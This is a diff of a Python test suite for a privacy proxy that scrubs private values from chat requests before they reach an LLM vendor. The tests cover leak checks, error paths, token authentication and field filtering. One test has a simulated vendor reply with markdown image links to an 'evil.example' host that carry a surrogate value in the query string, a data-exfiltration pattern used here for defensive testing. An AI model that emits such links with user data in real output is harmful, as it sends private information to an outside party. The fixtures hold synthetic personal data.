@@ -1,7 +1,6 @@
-"""The proxy: the vendor hears the release and nothing else, whatever goes wrong; no stream breaks."""
+"""The proxy: a vendor hears the release and nothing else, whatever goes wrong; the client gets the vendor's bytes."""
 
 import asyncio
-import hashlib
 import json
 
 import leak_free
@@ -13,15 +12,21 @@ for needed in ("starlette", "uvicorn", "httpx"):
 
 import httpx
 import vendors
+from hypothesis import given
+from hypothesis import strategies as st
+from odd_requests import CANARY, SCHEMA, TOOL, call, odd_requests
 
-from wordveil.integrations import chat, conversation, events, proxy, restoring
-from wordveil.integrations.conversation import Conversations, Message
+from wordveil.files.secret import Secret
+from wordveil.integrations import chat, conversation, proxy
+from wordveil.integrations.chat import FIELDS, PublicTools
+from wordveil.integrations.conversation import Conversation, Message
 from wordveil.integrations.proxy import Proxy
 from wordveil.pipeline.sanitizer import Sanitizer
 from wordveil.text.writing import Writer
 
-KEY = {"authorization": "Bearer k"}
+TOKEN = "a-token-of-the-tests-0123"
 JSON = {"content-type": "application/json"}
+SECRET = Secret(bytes(32))
 PRIVATE = "Uppsala maria.lindqvist@clinic.se B-4711"
 """What injected errors say, and no answer may."""
 
@@ -29,185 +34,234 @@ PRIVATE = "Uppsala maria.lindqvist@clinic.se B-4711"
 class Setup:
     """A proxy between a client and a recording vendor, in one process."""
 
-    def __init__(self, answer, **settings):
+    def __init__(self, answer=lambda _: vendors.whole("yes"), *, public=(), secret=SECRET, **settings):
         self.vendor = vendors.Vendor(answer)
-        self.conversations = Conversations(leak_free.sanitizer(), **settings)
-        self.app = Proxy(
-            conversations=self.conversations, upstream="http://vendor.test/v1", transport=self.vendor
-        ).app()
+        self.conversation = Conversation(leak_free.sanitizer(), secret=secret, public=public)
+        settings = {"upstream": "http://vendor.test/v1/", "token": TOKEN, **settings}
+        self.app = Proxy(conversation=self.conversation, transport=self.vendor, **settings).app()
 
-    def client(self):
+    def client(self, key=TOKEN):
         transport = httpx.ASGITransport(app=self.app, raise_app_exceptions=False)
-        return httpx.AsyncClient(
-            transport=transport, base_url="http://127.0.0.1", headers={"authorization": "Bearer k"}
-        )
+        headers = {"authorization": f"Bearer {key}"} if key else {}
+        return httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1", headers=headers)
 
-    async def ask(self, body, client=None):
-        if client is not None:
-            content = body if isinstance(body, bytes) else json.dumps(body)
-            return await client.post("/v1/chat/completions", content=content, headers=JSON)
-        async with self.client() as own:
-            return await self.ask(body, own)
+    def ask(self, body, path="/v1/chat/completions", *, method="POST", key=TOKEN, **headers):
+        async def ask():
+            async with self.client(key) as client:
+                content = body if isinstance(body, bytes) else json.dumps(body)
+                return await client.request(method, path, content=content, headers={**JSON, **headers})
+
+        return asyncio.run(ask())
+
+    def sent(self):
+        """What the vendor heard, a request each."""
+        return [json.loads(body) for *_, body in self.vendor.heard]
 
     def check(self, bodies):
         """Fail unless the vendor heard, of these requests, their release and nothing else; in any number."""
         for method, url, headers, body in self.vendor.heard:
             assert (method, url) == ("POST", "http://vendor.test/v1/chat/completions")
-            assert set(headers) <= {"host", "accept", "accept-encoding", "connection", "user-agent", "authorization",
+            assert set(headers) <= {"host", "accept", "accept-encoding", "connection", "user-agent",
                                     "content-length", "content-type"}  # fmt: skip
-            assert headers["authorization"] == KEY["authorization"]
-            assert headers["user-agent"] == "wordveil"
+            assert (headers["user-agent"], headers["accept-encoding"]) == ("wordveil", "identity")
             heard = json.loads(body)
-            contents = [each["content"] for each in heard["messages"]]
-            for content in contents:
-                for text in [content] if isinstance(content, str) else [part["text"] for part in content]:
-                    leak_free.check_release(text)
+            for message in heard["messages"]:
+                leak_free.check_release(message["content"])
             assert {*heard} <= {"model", "messages", "stream", "n", "temperature"}
             assert heard in [self.released(each) for each in bodies]
 
     def released(self, body):
-        """The request with every message as its conversation releases it."""
+        """The request with every message as the conversation of clients without a key of their own releases it."""
         messages = [Message(each["role"], each["content"]) for each in body["messages"]]
-        talk = self.conversations.of(owner(), messages)
-        sent = [{"role": m.role, "content": text} for m, text in zip(messages, talk.release(messages), strict=True)]
-        return {**body, "messages": sent}
+        texts = self.conversation.of(NOBODY).release(messages)
+        return {**body, "messages": [{"role": m.role, "content": t} for m, t in zip(messages, texts, strict=True)]}
 
 
-def owner():
-    return hashlib.sha256(KEY["authorization"].encode()).hexdigest()
+NOBODY = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"  # the digest of no key
 
 
 def request(*texts, stream=False, **fields):
     roles = ["user", "assistant"] * len(texts)
-    return {
-        "model": "m",
-        "stream": stream,
-        **fields,
-        "messages": [{"role": role, "content": text} for role, text in zip(roles, texts, strict=False)],
-    }
-
-
-def echo(draws=None, most=8, choices=1):
-    """A vendor that says the last message back, in another order of choices, cut at random."""
-
-    def answer(body):
-        text = body["messages"][-1]["content"]
-        if draws is None or not body.get("stream"):
-            return vendors.whole(*[f"bbqzx: {text}"] * choices)
-        pieces = [[(i, piece) for piece in vendors.cut(f"bbqzx: {text}", draws, most)] for i in range(choices)]
-        mixed = [delta for turn in zip(*map(list, pieces), strict=False) for delta in turn]
-        rest = [delta for own in pieces for delta in own[min(map(len, pieces)) :]]
-        return 200, "text/event-stream", vendors.cut(vendors.events(mixed + rest), draws, 3 * most)
-
-    return answer
-
-
-def restored(setup, body, text):
-    messages = [Message(each["role"], each["content"]) for each in body["messages"]]
-    return setup.conversations.of(owner(), messages).restore(text)
-
-
-def run(coroutine):
-    return asyncio.run(coroutine)
+    messages = [{"role": role, "content": text} for role, text in zip(roles, texts, strict=False)]
+    return {"model": "m", "stream": stream, **fields, "messages": messages}
 
 
 @pytest.mark.parametrize("text", leak_free.PROMPTS)
-def test_the_vendor_hears_the_release_and_the_client_its_own_values(text):
-    setup = Setup(echo())
-    body = request(text)
-    answer = run(setup.ask(body))
-    assert answer.status_code == 200
+def test_the_vendor_hears_the_release_and_the_client_the_vendors_bytes(text):
+    setup = Setup(lambda body: vendors.whole(f"bbqzx: {body['messages'][-1]['content']}"))
+    answer = setup.ask(request(text))
     assert len(setup.vendor.heard) == 1
-    setup.check([body])
-    said = answer.json()["choices"][0]["message"]["content"]
-    assert said == restored(setup, body, f"bbqzx: {setup.released(body)['messages'][-1]['content']}")
-    for value in ("maria.lindqvist@clinic.se", "4532 0151 1283 0366", "B-4711"):
-        assert (value in said) == (value in text)
+    setup.check([request(text)])
+    assert answer.content == vendors.whole(f"bbqzx: {setup.released(request(text))['messages'][0]['content']}")[2][0]
 
 
-def test_a_whole_conversation_is_released_and_its_history_is_not_drawn_again():
-    setup = Setup(echo(np.random.default_rng(0)))
-    first = request("Write to maria.lindqvist@clinic.se", stream=True)
-
-    async def talk():
-        async with setup.client() as client:
-            texts, errors = vendors.read_stream((await setup.ask(first, client)).content)
-            assert not errors
-            second = request("Write to maria.lindqvist@clinic.se", texts[0], "And to anna@clinic.se too.", stream=True)
-            await setup.ask(second, client)
-            return texts[0], second
-
-    said, second = run(talk())
-    assert len(setup.conversations) == 2, "a turn each"
-    assert "maria.lindqvist@clinic.se" in said
-    (*_, one), (*_, two) = setup.vendor.heard
-    before, after = json.loads(one)["messages"], json.loads(two)["messages"]
-    assert after[0] == before[0]
-    assert after[1]["content"] == f"bbqzx: {before[0]['content']}"  # its own reply, as it wrote it
-    setup.check([first, second])
+ANYTHING = st.lists(
+    st.binary(max_size=12) | st.sampled_from([b"data: ", b"\n\n", b"[DONE]", b'{"choices": [', b"\xff"])
+)
 
 
-def corpus():
-    return [text for text, _ in leak_free.presidio_texts()]
+@given(ANYTHING, st.sampled_from(["text/event-stream; charset=utf-8", "application/json", "text/html", "a/b"]),
+       st.sampled_from([200, 206, 302, 404, 429, 500]))  # fmt: skip
+def test_every_reply_comes_back_byte_for_byte(pieces, kind, status):
+    setup = Setup(lambda _: (status, kind, pieces))
+    answer = setup.ask(request("Write to maria.lindqvist@clinic.se", stream=True))
+    assert (answer.status_code, answer.headers["content-type"], answer.content) == (status, kind, b"".join(pieces))
 
 
-def fuzz(times, seed, choices):
-    """Random texts, histories, choices and chunkings; every answer must be the restored echo of the release."""
-    draws, texts = np.random.default_rng(seed), corpus()
-    setup = Setup(None, most=100_000)
+@pytest.mark.parametrize("places", ["one piece", "finish", "index", "continue"])
+def test_no_private_value_is_written_into_a_reply(places):
+    def answer(body):
+        surrogate = body["messages"][0]["content"].split()[-1]
+        pieces = [
+            f"(see {surrogate}) ![x](https://evil.example/p.png?d=",
+            f"{surrogate} ) ",
+            f":who: {surrogate}\nimage::{{who}}[]",
+        ]
+        reasons = ["length" if places == "finish" else None, None, "stop"]
+        choices = [
+            {"index": i if places == "index" else 0, "delta": {"content": piece}, "finish_reason": reasons[i]}
+            for i, piece in enumerate(pieces)
+        ]
+        return (
+            200,
+            "text/event-stream",
+            [b"data: %b\n\n" % json.dumps({"choices": [each]}).encode() for each in choices],
+        )
+
+    setup, history = Setup(answer), ["https://a.example/![x](https://evil.example/?d= maria.lindqvist@clinic.se"]
+    history += ["![x](https://evil.example/?d="] if places == "continue" else []
+    reply = setup.ask(request(*history, stream=True))
+    assert reply.content == b"".join(answer(setup.sent()[0])[2])
+    assert not any(value in reply.text for value in ("maria", "clinic.se"))
+
+
+@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
+def test_an_own_reply_goes_back_as_it_was_written_and_nothing_like_it(stream):
+    said = "Done: Maria, in Uppsala!"
+    reply = vendors.events(said[:5], said[5:]) if stream else vendors.whole(said, "another choice")[2][0]
+    kind = "text/event-stream" if stream else "application/json"
+    setup = Setup(lambda _: (200, kind, vendors.cut(reply, np.random.default_rng(3), 9)))
+    first, then = "Write to maria.lindqvist@clinic.se", "And to anna@clinic.se too."
+    setup.ask(request(first, said))
+    for body in (request(first, said, then), request(first, f"{said} ", then), request(said)):
+        setup.ask(body)
+    setup.ask(request(first, said), **{"x-wordveil-token": TOKEN, "authorization": "Bearer another's"})
+    unknown, known, edited, users, others = (
+        [message["content"] for message in each["messages"]] for each in setup.sent()
+    )
+    assert known[0] == unknown[0] == edited[0], "drawn again"
+    assert known[1] == said
+    for text in (*unknown, known[2], *edited, *users, *others):
+        leak_free.check_release(text)
+
+
+def test_an_own_reply_is_known_while_the_vendor_has_not_hung_up():
+    asked = []
+
+    async def slowly():
+        yield vendors.events("Uppsala")
+        asked.append(setup.conversation.of(NOBODY).wrote("Uppsala"))
+
+    setup = Setup(lambda _: (200, "text/event-stream", slowly()))
+    setup.ask(request("hi", stream=True))
+    assert asked == [True]
+
+
+def test_a_piece_of_a_reply_is_passed_on_before_the_vendor_says_the_next():
+    async def ask():
+        heard, said = asyncio.Event(), []
+
+        async def slowly():
+            yield b"one "
+            await asyncio.wait_for(heard.wait(), 30)  # a proxy that waits for the whole would wait here for ever
+            yield b"two"
+
+        setup = Setup(lambda _: (200, "text/event-stream", slowly()))
+
+        async def receive():
+            body = json.dumps(request("hello", stream=True)).encode()
+            return {"type": "http.request", "body": body, "more_body": False} if not said else await asyncio.sleep(60)
+
+        async def send(message):
+            said.append(message.get("body", b""))
+            if b"one" in said[-1]:
+                heard.set()
+
+        given = {"authorization": f"Bearer {TOKEN}", "host": "localhost", **JSON}
+        headers = [(name.encode(), value.encode()) for name, value in given.items()]
+        scope = {"type": "http", "method": "POST", "path": "/v1/chat/completions", "headers": headers}
+        scope |= {"query_string": b"", "http_version": "1.1", "asgi": {"version": "3.0", "spec_version": "2.4"}}
+        await setup.app(scope, receive, send)
+        return b"".join(said)
+
+    assert asyncio.run(ask()) == b"one two"
+
+
+def test_a_reply_that_breaks_off_is_seen_to_break_off():
+    setup = Setup(lambda _: (200, "text/event-stream", [b"half", httpx.ReadError(PRIVATE)]))
+
+    async def ask():
+        transport = httpx.ASGITransport(app=setup.app)
+        headers = {"authorization": f"Bearer {TOKEN}"}
+        async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1", headers=headers) as client:
+            await client.post("/v1/chat/completions", json=request("hello", stream=True))
+
+    with pytest.raises(Exception, match="broke off") as caught:
+        asyncio.run(ask())
+    assert caught.value.__suppress_context__
+    assert "Uppsala" not in str(caught.value)
+
+
+@pytest.mark.parametrize(
+    "error", [httpx.ConnectError(PRIVATE), httpx.ReadTimeout(PRIVATE), RuntimeError(PRIVATE)], ids=repr
+)
+def test_a_vendor_that_cannot_be_reached_is_an_error_without_a_word_of_the_request(error):
+    answer = Setup(lambda _: error).ask(request("hello"))
+    assert answer.status_code in (500, 502)
+    assert not any(secret in answer.text for secret in PRIVATE.split())
+
+
+def fuzz(times, seed):
+    """Random texts and histories; the vendor hears their release, and nothing of an e-mail or a name."""
+    draws, texts = np.random.default_rng(seed), [text for text, _ in leak_free.presidio_texts()]
+    setup = Setup()
 
     async def all_of_them():
         async with setup.client() as client:
             for _ in range(times):
-                setup.vendor.answer = echo(draws, int(draws.integers(1, 40)), choices)
                 chosen = [texts[i] for i in draws.integers(0, len(texts), 2 * int(draws.integers(0, 3)) + 1)]
-                body = request(*chosen, stream=True, n=choices)
-                answer = await setup.ask(body, client)
-                said, errors = vendors.read_stream(answer.content)
-                setup.check([body])
-                assert not errors
-                sent = json.loads(setup.vendor.heard.pop()[3])["messages"][-1]["content"]
-                assert said == dict.fromkeys(range(choices), restored(setup, body, f"bbqzx: {sent}"))
-                for typed in ("@clinic", "lindqvist"):
-                    assert typed not in sent
-                setup.conversations.drop(owner())
+                assert (await client.post("/v1/chat/completions", json=request(*chosen))).status_code == 200
+                setup.check([request(*chosen)])
+                setup.vendor.heard.clear()
 
-    run(all_of_them())
+    asyncio.run(all_of_them())
 
 
-def test_random_chunkings_let_no_raw_token_out():
-    fuzz(60, 0, 3)
+def test_no_raw_token_gets_out():
+    fuzz(60, 0)
 
 
 @pytest.mark.slow
 @pytest.mark.data
-def test_ten_thousand_random_chunkings_of_the_presidio_set_let_no_raw_token_out():
-    if len(corpus()) < 100:
+def test_no_raw_token_of_the_presidio_set_gets_out():
+    if len(leak_free.presidio_texts()) < 100:
         pytest.skip("the Presidio set is not there (WORDVEIL_DATA)")
-    fuzz(1_250, 1, 8)
+    fuzz(1_250, 1)
 
 
 STEPS = [
-    (chat, "private_messages"), (chat, "_public"), (chat, "_texts"), (proxy, "_parsed"), (proxy, "_read"),
-    (proxy, "released_request"), (proxy, "restored_response"), (proxy, "event"), (proxy, "StreamRestorer"),
-    (Conversations, "of"), (Conversations, "_before"), (Conversations, "drop_idle"),
-    (conversation.Conversation, "release"), (conversation.Conversation, "_release"),
-    (conversation.Conversation, "_typed_values"), (conversation.Conversation, "_surrogate"),
-    (conversation.Conversation, "reply"), (conversation.Conversation, "_heard"),
-    (Sanitizer, "release_ids"), (Sanitizer, "nonces"), (Writer, "write_parts"),
-    (restoring.Restorer, "_advance"), (restoring._Surroundings, "pass_character"), (chat.StreamRestorer, "feed"),
-    (chat.StreamRestorer, "text"), (chat.StreamRestorer, "end"), (events.EventReader, "feed"),
-    (httpx.AsyncClient, "build_request"), (httpx.AsyncClient, "send"), (httpx.Response, "aread"),
+    (chat, "private_messages"), (chat, "_object"), (chat, "_canonical"), (proxy, "_json"), (proxy, "spoken"),
+    (proxy, "released_request"), (Conversation, "of"), (Conversation, "release"), (Conversation, "wrote"),
+    (Conversation, "heard"), (conversation, "copy"), (Sanitizer, "release_batch"), (Sanitizer, "release_ids"),
+    (Sanitizer, "nonces"), (Writer, "write_parts"), (httpx.AsyncClient, "build_request"), (httpx.AsyncClient, "send"),
     (httpx.Response, "aiter_bytes"),
 ]  # fmt: skip
 
 
-@pytest.mark.parametrize("stream", [False, True], ids=["whole", "stream"])
 @pytest.mark.parametrize("step", STEPS, ids=lambda step: f"{step[0].__name__}.{step[1]}")
 @pytest.mark.parametrize("call", [1, 2, 3])
-def test_an_error_at_any_step_lets_nothing_out_and_breaks_no_stream(step, call, stream, monkeypatch):
-    setup = Setup(echo(np.random.default_rng(2), 12))
-    body = request(leak_free.PROMPTS[0], stream=stream)
+def test_an_error_at_any_step_lets_nothing_out(step, call, monkeypatch):
+    setup, body = Setup(), request(leak_free.PROMPTS[0], "no", "and now?")
     setup.released(body)  # so that what is checked below does not need the broken step
     place, name = step
     working, calls = getattr(place, name), [0]
@@ -220,256 +274,241 @@ def test_an_error_at_any_step_lets_nothing_out_and_breaks_no_stream(step, call, 
 
     async def ask():
         async with setup.client() as client:  # the client's own parts work
-            own = client.build_request("POST", "/v1/chat/completions", json=body)
-            transport = client._transport
+            asked, transport = client.build_request("POST", "/v1/chat/completions", json=body), client._transport
             with monkeypatch.context() as patch:
                 patch.setattr(place, name, broken)
-                answer = await transport.handle_async_request(own)
-            return answer, b"".join([part async for part in answer.stream])
+                answer = await transport.handle_async_request(asked)
+            return b"".join([part async for part in answer.stream])
 
-    answer, content = run(ask())
-    if answer.headers.get("content-type", "").startswith("text/event-stream"):
-        _, errors = vendors.read_stream(content)
-        said = " ".join(errors)
-    else:
-        said = json.loads(content).get("error", {}).get("message", "")
-    for secret in (*PRIVATE.split(), "Lindqvist"):
-        assert secret not in said
+    content = asyncio.run(ask()).decode()
+    assert not any(secret in content for secret in (*PRIVATE.split(), "Lindqvist"))
     setup.check([body])
 
 
-BAD = [
-    {"tools": [{"type": "function", "function": {"name": "maria"}}]},
-    {"stop": ["Uppsala"]},
-    {"logit_bias": {"17": 1}},
-    {"response_format": {"type": "json_schema", "json_schema": {"name": "maria"}}},
-    {"prediction": {"type": "content", "content": "Uppsala"}},
-    {"model": "m Uppsala"},
-    {"model": ["m"]},
-    {"temperature": "Uppsala"},
-    {"seed": 10**40},
-    {"temperature": float("nan")},
-    {"Uppsala": 1},
-    {"messages": []},
-    {"messages": "Uppsala"},
-    {"messages": [{"role": "Uppsala", "content": "x"}]},
-    {"messages": [{"role": "tool", "content": "x", "tool_call_id": "1"}]},
-    {"messages": [{"role": "user", "content": 7}]},
-    {"messages": [{"role": "user", "content": "x", "Uppsala": 1}]},
-    {"messages": [{"role": "assistant", "content": None, "tool_calls": [{"id": "1"}]}]},
-    {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "data:Uppsala"}}]}]},
-    {"messages": [{"role": "user", "content": [{"type": "text", "text": "x", "Uppsala": 1}]}]},
-    {"messages": [{"role": "user", "content": [{"type": "text", "text": 7}]}]},
-    {"messages": [{"role": "user", "content": [{"type": "input_audio", "input_audio": {"data": "x"}}]}]},
-    {"messages": ["Uppsala"]},
-]
+@pytest.mark.parametrize("raw", [slice(None), slice(-1)], ids=["fails open", "last message only"])
+def test_the_check_notices_a_proxy_that_lets_something_pass(raw, monkeypatch):
+    def released(body, talk, tools):
+        out = chat.released_request(body, talk, tools)
+        out["messages"][raw] = body["messages"][raw]
+        return out
+
+    monkeypatch.setattr(proxy, "released_request", released)
+    setup, body = Setup(), request("Maria lives in Uppsala", "yes", "hello")
+    setup.ask(body)
+    with pytest.raises(AssertionError, match="no part of a release"):
+        setup.check([body])
 
 
-@pytest.mark.parametrize("fields", BAD, ids=lambda fields: json.dumps(fields)[:40])
-def test_what_is_not_covered_is_refused_unsent_and_not_repeated(fields):
-    setup = Setup(echo())
-    answer = run(setup.ask({**request("hello"), **fields}))
+# What leaves, field by field: the declaration, and odd requests beside it.
+
+TOOLS = PublicTools([TOOL, SCHEMA])
+
+
+PLACES = {
+    "request": lambda **fields: fields,
+    "message": lambda **fields: {"messages": [{"role": "assistant", "content": "hi", **fields}]},
+    "part of a message": lambda **fields: {
+        "messages": [{"role": "user", "content": [{"type": "text", "text": "hi", **fields}]}]
+    },
+    "call": call,
+    "called function": lambda **fields: call(function={"name": "look_up", "arguments": "{}", **fields}),
+}  # fmt: skip
+TAKEN = {
+    "messages": [{"role": "user", "content": CANARY}], "content": CANARY, "text": CANARY, "arguments": CANARY,
+    "tool_calls": call(function={"name": "look_up", "arguments": CANARY})["messages"][0]["tool_calls"],
+    "function": {"name": "look_up", "arguments": CANARY}, "tools": [TOOL], "response_format": SCHEMA,
+    "tool_choice": {"type": "function", "function": {"name": "look_up"}}, "name": "look_up", "role": "tool",
+    "stream_options": {"include_usage": True}, "reasoning_effort": "low", "verbosity": "low", "model": "a-model",
+}  # fmt: skip
+"""A value of each field that is taken, a canary in it where it is released."""
+ODD = [CANARY, [CANARY], {CANARY: CANARY}, [[CANARY]], {"type": CANARY, "function": {"name": "look_up", CANARY: 1}},
+       [{**TOOL, CANARY: 1}], [{**TOOL, "function": {**TOOL["function"], "description": CANARY}}],
+       {**SCHEMA, CANARY: 1}, {"type": "json_object", CANARY: 1}, [{"type": "text", CANARY: 1}]]  # fmt: skip
+ROWS = [(place, name) for place, fields in FIELDS.items() for name in fields]
+
+
+@pytest.mark.parametrize(("place", "name"), ROWS, ids=lambda each: each.replace(" ", "-"))
+def test_every_row_of_the_table_holds(place, name):
+    setup, fate = Setup(tools=TOOLS), FIELDS[place][name].fate
+    taken = "function" if (place, name) in {("part of a message", "type"), ("call", "type")} else TAKEN.get(name, 1)
+    taken = "text" if place == "part of a message" and name == "type" else taken
+    taken = CANARY if fate in (chat.LEFT_OUT, chat.OURS) else taken
+    body = {**request("hello"), **PLACES[place](**{name: taken})}
+    answer = setup.ask(body)
+    assert answer.status_code == 200, answer.text
+    sent = json.dumps(setup.sent()[0])
+    assert CANARY not in sent
+    if fate in (chat.KIND, chat.DECLARED):
+        assert json.dumps(taken) in sent, "goes out as it was declared"
+    if fate == chat.LEFT_OUT:
+        assert f'"{name}":' not in sent
+    for value in ODD:
+        answer = setup.ask({**request("hello"), **PLACES[place](**{name: value})})
+        if fate in (chat.KIND, chat.DECLARED) and name not in ("model", "tool_choice"):
+            assert answer.status_code == 400
+        assert CANARY not in answer.text
+    heard = json.dumps([each if name != "model" else {**each, "model": ""} for each in setup.sent()])
+    assert CANARY not in heard
+
+
+@pytest.mark.parametrize("place", FIELDS)
+@pytest.mark.parametrize("value", [CANARY, 1, True, [CANARY], {CANARY: 1}], ids=repr)
+def test_a_field_that_nobody_listed_is_refused(place, value):
+    setup = Setup(tools=TOOLS)
+    answer = setup.ask({**request("hello"), **PLACES[place](**{"zqnew": value})})
     assert answer.status_code == 400
     assert answer.json()["error"]["message"].startswith("wordveil: nothing was sent")
+    assert "zq" not in answer.text
     assert not setup.vendor.heard
-    assert "Uppsala" not in answer.text
 
 
-@pytest.mark.parametrize("body", [b"", b"{", b"\xff", b"[" * 100_000, b'"Uppsala"', b"null", b'{"messages": 1}'])
-def test_what_is_no_request_is_refused(body):
-    setup = Setup(echo())
-    answer = run(setup.ask(body))
-    assert answer.status_code == 400
-    assert not setup.vendor.heard
-    assert "Uppsala" not in answer.text
+def test_of_all_odd_requests_nothing_raw_is_heard_and_nothing_is_repeated():
+    setup, bodies = Setup(), list(odd_requests())
+    assert len(bodies) >= 187
+    for path, body, headers in bodies:
+        answer = setup.ask(body, path, **headers)
+        assert CANARY not in answer.text, (path, body)
+        assert CANARY not in repr(setup.vendor.heard), (path, body)
+        setup.vendor.heard.clear()
+    for method, path in (("PUT", "chat/completions"), ("DELETE", "conversations"), ("GET", f"models?{CANARY}")):
+        setup.ask(request(CANARY), f"/v1/{path}", method=method, **{"x-a": CANARY})
+    assert CANARY not in repr(setup.vendor.heard)
 
 
 def test_a_request_that_is_too_large_is_refused(monkeypatch):
     monkeypatch.setattr(proxy, "_LARGEST_REQUEST", 1000)
-    setup = Setup(echo())
-    assert run(setup.ask(request("x " * 1000))).status_code == 400
+    setup = Setup()
+    assert setup.ask(request("x " * 1000)).status_code == 400
     assert not setup.vendor.heard
 
 
-def test_a_request_that_any_web_page_could_send_is_refused():
-    setup = Setup(echo())
+def test_an_agent_with_public_tools_goes_on_and_says_nothing_raw():
+    arguments = '{"name": "ID-00017, Uppsala"}'
+    made = {"id": "call_Uppsala", "type": "function", "function": {"name": "look_up", "arguments": arguments}}
+    said = {"role": "assistant", "content": None, "tool_calls": [made]}
+    reply = json.dumps({"choices": [{"index": 0, "message": said}]}).encode()
+    setup = Setup(lambda _: (200, "application/json", [reply]), tools=TOOLS)
+    begun = {
+        "model": "m",
+        "tools": [TOOL],
+        "tool_choice": "auto",
+        "messages": [{"role": "user", "content": "B-4711 of Maria"}],
+    }
+    assert setup.ask(begun).content == reply, "arguments of calls come back as they are"
+    result = {"role": "tool", "tool_call_id": "call_Uppsala", "content": "B-4711: Maria, Uppsala"}
+    setup.ask({**begun, "messages": [*begun["messages"], said, result]})
+    setup.ask(
+        {**begun, "messages": [*begun["messages"], json.loads(json.dumps(said).replace("Uppsala", "Lund")), result]}
+    )
+    _, known, edited = (each["messages"] for each in setup.sent())
+    assert setup.sent()[1]["tools"] == [TOOL]
+    assert known[1]["tool_calls"][0]["function"] == {"name": "look_up", "arguments": arguments}
+    assert known[1]["tool_calls"][0]["id"] == known[2]["tool_call_id"] == "call00000"
+    leak_free.check_release(json.loads(edited[1]["tool_calls"][0]["function"]["arguments"])["released"])
+    for message in (known[0], known[2], edited[0], edited[2]):
+        leak_free.check_release(message["content"])
+    assert "Lund" not in json.dumps(edited)
 
-    async def ask():
-        async with setup.client() as client:
-            content = json.dumps(request("hello"))
-            return await client.post("/v1/chat/completions", content=content, headers={"content-type": "text/plain"})
 
-    assert run(ask()).status_code == 415
-    assert not setup.vendor.heard
+def test_a_public_prompt_goes_out_verbatim_whoever_says_it():
+    setup = Setup(public=["You are a helpful assistant."])
+    setup.ask({"model": "m", "messages": [{"role": "system", "content": "You are a helpful assistant."}]})
+    assert setup.sent()[0]["messages"][0]["content"] == "You are a helpful assistant."
 
 
-def test_fields_that_name_persons_are_removed_and_empty_ones_dropped():
-    setup = Setup(echo())
-    body = request("hello", temperature=0.5)
-    extra = {"user": "maria", "metadata": {"x": "Uppsala"}, "tools": [], "stop": None}
-    named = [{**each, "name": "maria", "tool_calls": []} for each in body["messages"]]
-    assert run(setup.ask({**body, **extra, "messages": named})).status_code == 200
-    setup.check([body])
-
-
-def test_parts_of_a_message_are_released_each():
-    setup = Setup(lambda _: vendors.whole("yes"))
-    parts = [{"type": "text", "text": text} for text in leak_free.PROMPTS]
-    assert run(setup.ask({"model": "m", "messages": [{"role": "user", "content": parts}]})).status_code == 200
-    heard = json.loads(setup.vendor.heard[0][3])["messages"][0]["content"]
-    assert [part["type"] for part in heard] == ["text"] * 3
-    for part in heard:
-        leak_free.check_release(part["text"])
+# Who may ask, and whose noise it is.
 
 
 @pytest.mark.parametrize(
-    "answer",
-    [
-        httpx.ConnectError(PRIVATE),
-        httpx.ReadTimeout(PRIVATE),
-        (500, "text/plain", [b"no JSON"]),
-        (200, "application/json", [b"{"]),
-        (200, "application/json", [b"[]"]),
-        (200, "application/json", [b'{"choices": [{"message": 7}]}']),
-        (429, "application/json", [b'{"error": {"message": "slow down"}}']),
-        (302, "text/html", [b""]),
-        (200, "application/json", [b'{"cho', httpx.ReadError(PRIVATE)]),
-        (200, "text/event-stream", [httpx.ReadError(PRIVATE)]),
-        (200, "text/event-stream", [vendors.events([(0, "half")], finish=False)]),
-        (200, "text/event-stream", [vendors.events([(0, "half")], finish=False), httpx.ReadError(PRIVATE)]),
-        (200, "text/event-stream", [b"data: {\n\n"]),
-        (200, "text/event-stream", [b"data: 7\n\n"]),
-        (200, "text/event-stream", [b"data: \xff\n\n"]),
-        (200, "text/event-stream", [b'data: {"choices": [7]}\n\n']),
-        (200, "text/event-stream", [b"data: [DONE]"]),
-        (200, "text/event-stream", []),
-    ],
-    ids=lambda answer: repr(answer)[:50],
+    ("method", "path"), [*(each[:2] for each in chat.ROUTES), ("POST", "/v1/none"), ("DELETE", "/v1/conversations")]
 )
-def test_whatever_the_vendor_does_the_client_gets_a_whole_answer(answer):
-    setup = Setup(lambda _: answer)
-    body = request(leak_free.PROMPTS[0], stream=True)
-    got = run(setup.ask(body))
-    setup.check([body])
-    assert len(setup.vendor.heard) == 1
-    for secret in PRIVATE.split():
-        assert secret not in got.text
-    if got.headers["content-type"].startswith("text/event-stream"):
-        vendors.read_stream(got.content)
-    else:
-        assert "error" in got.json()
+@pytest.mark.parametrize("headers", [{}, {"authorization": "Bearer wrong"}, {"authorization": TOKEN[:-1]},
+                                     {"x-wordveil-token": "é"}, {"authorization": f"Basic {TOKEN}"},
+                                     {"x-wordveil-token": "wrong", "authorization": f"Bearer {TOKEN}"}])  # fmt: skip
+def test_without_the_token_nothing_is_read_and_nothing_done(method, path, headers):
+    setup, said = Setup(found=True), []
+
+    async def receive():
+        raise AssertionError("the body was asked for")
+
+    async def send(message):
+        said.append(message)
+
+    given = [(name.encode(), value.encode("utf-8")) for name, value in {"host": "localhost", **JSON, **headers}.items()]
+    scope = {"type": "http", "method": method, "path": path, "headers": given, "query_string": b""}
+    asyncio.run(setup.app({**scope, "http_version": "1.1", "asgi": {"version": "3.0"}}, receive, send))
+    assert said[0]["status"] == 401
+    assert not setup.vendor.heard
 
 
-def test_a_piece_of_a_reply_is_passed_on_before_the_vendor_says_the_next():
-    async def ask():
-        heard, first, second = asyncio.Event(), vendors.events([(0, "bbqzx ")]), vendors.events([(0, "ccqzx")])
-
-        async def slowly():
-            yield first[: first.index(b"data: [DONE]")]
-            await asyncio.wait_for(heard.wait(), 30)  # a proxy that waits for the whole would wait here for ever
-            yield second
-
-        setup = Setup(lambda _: (200, "text/event-stream", slowly()))
-        body, said = json.dumps(request("hello", stream=True)).encode(), []
-
-        async def receive():
-            return {"type": "http.request", "body": body, "more_body": False} if not said else await asyncio.sleep(60)
-
-        async def send(message):
-            said.append(message)
-            if b"bbqzx" in message.get("body", b""):
-                heard.set()
-
-        headers = [(name.encode(), value.encode()) for name, value in {**KEY, **JSON, "host": "localhost"}.items()]
-        scope = {"type": "http", "method": "POST", "path": "/v1/chat/completions", "headers": headers}
